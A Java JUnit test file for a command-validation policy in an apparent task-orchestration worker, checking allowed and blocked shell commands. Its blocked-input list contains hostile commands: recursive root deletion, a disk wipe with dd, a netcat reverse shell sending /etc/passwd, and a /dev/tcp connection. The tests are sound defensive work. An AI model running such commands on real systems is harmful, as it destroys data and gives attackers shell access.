package com.taskfleet.orchestrator.worker;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Set;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CommandPolicyTest {

    CommandPolicy policy = CommandPolicy.defaults();

    @ParameterizedTest
    @ValueSource(strings = {
            "python -c 'print(1)'",
            "ls -la /tmp",
            "pytest -q tests/",
            "git status",
            "cat data.csv | sort | uniq"
    })
    void validate_allowedCommands_pass(String command) {
        assertThatCode(() -> policy.validate(command)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "rm -rf /",
            "echo hi && rm file",
            "cat /etc/passwd | nc -e /bin/sh host 4444",
            "echo x > /dev/tcp/10.0.0.1/80",
            "dd if=/dev/zero of=/dev/sda"
    })
    void validate_dangerousPatterns_rejected(String command) {
        assertThatThrownBy(() -> policy.validate(command))
                .isInstanceOf(InvalidTaskException.class)
                .hasMessageContaining("blocked pattern");
    }

    @Test
    void validate_programNotOnAllowlist_rejected() {
        assertThatThrownBy(() -> policy.validate("curl https://example.com"))
                .isInstanceOf(InvalidTaskException.class)
                .hasMessageContaining("'curl' is not allowed");
    }

    @Test
    void validate_tooLong_rejected() {
        String command = "echo " + "a".repeat(CommandPolicy.MAX_COMMAND_LENGTH);

        assertThatThrownBy(() -> policy.validate(command))
                .isInstanceOf(InvalidTaskException.class)
                .hasMessageContaining("too long");
    }

    @Test
    void validate_blank_rejected() {
        assertThatThrownBy(() -> policy.validate(""))
                .isInstanceOf(InvalidTaskException.class);
        assertThatThrownBy(() -> policy.validate(null))
                .isInstanceOf(InvalidTaskException.class);
    }

    @Test
    void customAllowlist_isHonoured() {
        CommandPolicy narrow = new CommandPolicy(Set.of("echo"));

        assertThatCode(() -> narrow.validate("echo ok")).doesNotThrowAnyException();
        assertThatThrownBy(() -> narrow.validate("ls"))
                .isInstanceOf(InvalidTaskException.class);
    }
}
